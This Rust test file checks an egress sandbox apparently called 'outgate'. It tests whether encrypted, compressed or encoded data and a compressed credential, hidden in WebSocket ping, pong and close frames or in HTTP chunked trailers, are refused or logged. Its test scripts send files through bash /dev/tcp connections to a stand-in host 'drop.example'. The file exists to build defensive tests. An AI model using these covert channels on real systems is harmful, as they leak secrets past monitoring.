//! What stands beside content and nobody can look into: in trailers and in control frames
//! of a WebSocket it is counted and refused as content is.

use outgate_harness::audit::{records, text};
use outgate_harness::{Identity, lab_tests};

use crate::streams::{HANDSHAKE, frame};
use crate::{Credential, assert_contained, bash, confined, thief};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// The beginning of a file in xz, with a right checksum.
const XZ: &[u8] = b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46\x02\0!\x01\x16\0\0\0";
/// An entry of a zip archive that is encrypted.
const ZIP: &[u8] =
    b"PK\x03\x04\x14\0\x01\0\x08\0\0\0!\0abcd\x09\0\0\0\x09\0\0\0\x01\0\0\0a123456789";
/// A message of OpenPGP in binary: a key that a password makes, and what it encrypts.
const PGP: &[u8] = b"\x8c\x0d\x04\x09\x03\x02\x9a\x1c\x37\x4e\x51\x28\x7d\x0b\xff\xd2\x1e\x01\x61\x09\x8a\xc4\x13\x77\x5d\xe2\x90\x3f\xb8\x46\xd1\x5c\x08\xe7\x2a\x94\x6b\xf0\x1d\x33\xc5\x7e\x82\x49\xaf\x16";

/// A member of gzip (RFC 1952): its checksum is nobody's business here.
fn gzip(content: &[u8]) -> Vec<u8> {
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    let content = miniz_oxide::deflate::compress_to_vec(content, 9);
    [&head[..], &content, &[0; 8]].concat()
}

lab_tests! {
    fn what_stands_beside_content_is_counted_and_refused_as_content_is(lab) {
        let thief = thief();
        let given = lab.folder("given", Identity::Own);
        std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
        let coded = |bytes: &[u8]| STANDARD.encode(bytes).into_bytes();
        let armoured = b"-----BEGIN PGP MESSAGE-----\n\njA0ECQMCmhw3TlEoff/SHgFhCYrEE3dd4pA/uEbRXAjnKpRr8B0zxX6CSa8W\n=abcd\n".to_vec();
        let bomb = coded(&gzip(&vec![0; 6_000_000]));
        let close = |text: &[u8]| frame(0x88, &[&[3, 232], text].concat());
        let control = |frame: &[u8]| (true, frame.to_vec());
        let trailer = |value: Vec<u8>| (false, value);
        for (name, (is_frame, bytes), always) in [
            ("ping of xz", control(&frame(0x89, XZ)), false),
            ("pong of xz", control(&frame(0x8a, XZ)), false),
            ("ping of an encrypted zip", control(&frame(0x89, ZIP)), false),
            ("ping of OpenPGP", control(&frame(0x89, PGP)), false),
            ("ping of armoured OpenPGP", control(&frame(0x89, &armoured)), false),
            ("ping of base64", control(&frame(0x89, &coded(XZ))), false),
            ("close with xz", control(&close(XZ)), false),
            ("close with base64", control(&close(&coded(ZIP))), false),
            ("ping between fragments", control(&[frame(0x01, b"a"), frame(0x89, XZ), frame(0x80, b"b")].concat()), false),
            ("trailer of base64", trailer(coded(XZ)), false),
            ("trailer of an encrypted zip", trailer(coded(ZIP)), false),
            ("trailer that expands", trailer(bomb), true),
        ] {
            let script = if is_frame {
                std::fs::write(given.join("frames"), &bytes).expect("a file");
                format!("exec 3<>/dev/tcp/drop.example/8099; cat {0}/handshake >&3; sleep 0.3; cat {0}/frames >&3; sleep 0.3", given.display())
            } else {
                let head = b"POST /p HTTP/1.1\r\nHost: drop.example:8099\r\nTransfer-Encoding: chunked\r\nTrailer: x-t\r\n\r\n1\r\na\r\n0\r\nx-t: ";
                std::fs::write(given.join("request"), [head, &bytes[..], b"\r\n\r\n"].concat()).expect("a file");
                format!("exec 3<>/dev/tcp/drop.example/8099; cat {}/request >&3; timeout 1 head -c 12 <&3 >/dev/null", given.display())
            };
            let part = if is_frame { &bytes[bytes.len() - 8..] } else { &bytes[bytes.len() / 2..] };
            for strict in [false, true] {
                let file = lab.folder("records", Identity::Own).join("beside.jsonl");
                std::fs::remove_file(&file).ok();
                let sandbox = confined(lab, Identity::Own).option("--audit", &file.to_string_lossy());
                let sandbox = if strict { sandbox.flag("--strict") } else { sandbox };
                let outcome = sandbox.run(&bash(&script));
                let sent = thief.take_all();
                let arrived = sent.windows(part.len()).any(|some| some == part);
                assert_eq!(arrived, !strict && !always, "{name} {strict}: {outcome}");
                let records = records(&file);
                let verdict = if strict || always { "deny" } else { "note" };
                let is_told = |record: &&serde_json::Value| {
                    text(record, "reason") == "unscannable" && text(record, "verdict") == verdict
                };
                assert_eq!(records.iter().filter(is_told).count(), 1, "{name} {strict}: {records:?}");
            }
        }
    }

    fn no_control_frame_hides_a_credential_under_compression(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let given = lab.folder("given", Identity::Own);
        std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
        let text = format!("token: {}", credential.text()).into_bytes();
        let bare = miniz_oxide::deflate::compress_to_vec(&text, 9);
        let zlib = miniz_oxide::deflate::compress_to_vec_zlib(&text, 9);
        for (name, payload) in [("gzip", gzip(&text)), ("zlib", zlib), ("deflate", bare)] {
            for (kind, frames) in [
                ("ping", frame(0x89, &payload)),
                ("pong", frame(0x8a, &payload)),
                ("close", frame(0x88, &[&[3, 232], &payload[..]].concat())),
            ] {
                std::fs::write(given.join("frames"), &frames).expect("a file");
                let script = format!("exec 3<>/dev/tcp/drop.example/8099; cat {0}/handshake >&3; sleep 0.3; cat {0}/frames >&3; sleep 0.3", given.display());
                let outcome = confined(lab, Identity::Own).run(&bash(&script));
                let sent = thief.take_all();
                let arrived = sent.windows(8).any(|some| some == &payload[payload.len() - 8..]);
                assert!(!arrived, "{name} in a {kind}: {outcome}");
                assert_contained(&outcome, &sent, &credential, name);
            }
        }
    }

    fn control_frames_of_clients_are_told_by_nobody(lab) {
        let thief = thief();
        let given = lab.folder("given", Identity::Own);
        std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
        // Nothing, four bytes of chance, a time, a counter, words.
        let payloads: [&[u8]; 6] = [b"", b"\xc3\x85\x01\x9a", b"\0\0\x01\x9a\x3f\x51\x28\x7d", b"42", b"keepalive", b"\x8c\x0d\x03\x09"];
        let frames: Vec<u8> = payloads.iter().flat_map(|payload| [frame(0x89, payload), frame(0x8a, payload)].concat()).collect();
        std::fs::write(given.join("frames"), [&frames[..], &frame(0x88, b"\x03\xe8done")].concat()).expect("a file");
        let script = format!("exec 3<>/dev/tcp/drop.example/8099; cat {0}/handshake >&3; sleep 0.3; cat {0}/frames >&3; sleep 0.3", given.display());
        let outcome = confined(lab, Identity::Own).flag("--strict").run(&bash(&script));
        let sent = thief.take_all();
        assert!(sent.windows(4).any(|some| some == b"done"), "{outcome}");
        assert!(!outcome.stderr.contains("outgate"), "{outcome}");
    }
}
